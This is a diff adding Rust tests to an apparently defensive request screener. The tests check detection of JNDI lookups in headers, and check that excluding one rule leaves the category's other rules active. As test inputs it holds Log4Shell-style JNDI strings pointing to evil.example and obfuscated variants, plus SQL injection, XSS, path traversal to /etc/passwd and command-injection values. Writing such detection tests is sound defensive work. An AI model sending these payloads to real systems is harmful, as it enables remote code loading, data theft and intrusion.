@@ -235,6 +235,30 @@ fn a_star_inspects_every_header_but_credentials() {
 }
 
 #[test]
+fn jndi_lookups_in_every_header() {
+    let s = screener();
+    for (name, value) in [
+        ("x-api-version", "${jndi:ldap://evil.example/a}"),
+        ("authorization", "Bearer ${${lower:j}ndi:rmi://x/y}"),
+        ("test", "${${::-j}ndi:dns://x}"),
+    ] {
+        let d = s.screen_headers_of(request("GET", "/", &[(name, value)]));
+        assert_eq!(refusal(&d), Some("jndi-001"), "{name}");
+    }
+    // Only JNDI: other categories stay with the listed headers.
+    let d = s.screen_headers_of(request(
+        "GET",
+        "/",
+        &[("x-note", "<script>alert(1)</script>")],
+    ));
+    assert_eq!(refusal(&d), None);
+    // Not when the policy leaves the category out.
+    let without = Screener::from_json(br#"{"detect": {"categories": ["sqli"]}}"#).unwrap();
+    let d = without.screen_headers_of(request("GET", "/", &[("x-api", "${jndi:ldap://x/a}")]));
+    assert_eq!(refusal(&d), None);
+}
+
+#[test]
 fn the_finding_names_its_location() {
     let s = Screener::from_json(br#"{"mode": "detect"}"#).unwrap();
     let HeaderDecision::Pass { findings, .. } =
@@ -250,10 +274,11 @@ fn the_finding_names_its_location() {
 #[test]
 fn exclusions_and_detect_routes() {
     let s = screener();
-    // The rule is excluded for q on /search, not for other parameters.
+    // The rule is excluded for q on /search, not for other parameters; the other SQL rules
+    // still look at q.
     assert_eq!(
         refusal(&s.screen_headers_of(request("GET", "/search?q=1'+or+'1'='1", &[]))),
-        None
+        Some("sqli-007")
     );
     assert_eq!(
         refusal(&s.screen_headers_of(request("GET", "/search?x=1'+or+'1'='1", &[]))),
@@ -574,4 +599,42 @@ fn case_insensitive_routes_match_case_variants() {
         ),
         "{d:?}"
     );
+}
+
+/// An exclusion by rule id ignores that rule only: the category's other rules still run at
+/// that location (docs/screen.md, "Modes, routes, exclusions").
+#[test]
+fn an_excluded_rule_leaves_its_category_s_other_rules() {
+    let s = Screener::from_json(
+        br#"{"routes": [{"match": {"path_prefix": "/x"}, "exclusions": [
+            {"rule": "sqli-001", "location": "query:q"},
+            {"rule": "xss-001", "location": "query:q"},
+            {"rule": "path-001", "location": "query:q"},
+            {"rule": "rce-002", "location": "query:q"}]}]}"#,
+    )
+    .unwrap();
+    let mut passed = Vec::new();
+    for (value, excluded, category) in [
+        (
+            "1'+union+select+password+from+information_schema.tables--",
+            "sqli-001",
+            "sqli",
+        ),
+        ("<script>alert(1)</script>", "xss-001", "xss"),
+        ("..%2f..%2f..%2fetc%2fpasswd", "path-001", "traversal"),
+        ("$(sleep+5)%3bcat+x", "rce-002", "rce"),
+    ] {
+        // Elsewhere the excluded rule names the finding.
+        let d = s.screen_headers_of(request("GET", &format!("/y?q={value}"), &[]));
+        assert_eq!(refusal(&d), Some(excluded), "{value}");
+        let d = s.screen_headers_of(request("GET", &format!("/x?q={value}"), &[]));
+        match &d {
+            HeaderDecision::Refuse(Refusal::Finding(f))
+                if f.rule.category.as_str() == category
+                    && f.rule.id != excluded
+                    && f.location == "query:q" => {}
+            _ => passed.push(format!("{value} with {excluded} excluded: {d:?}")),
+        }
+    }
+    assert!(passed.is_empty(), "{passed:#?}");
 }
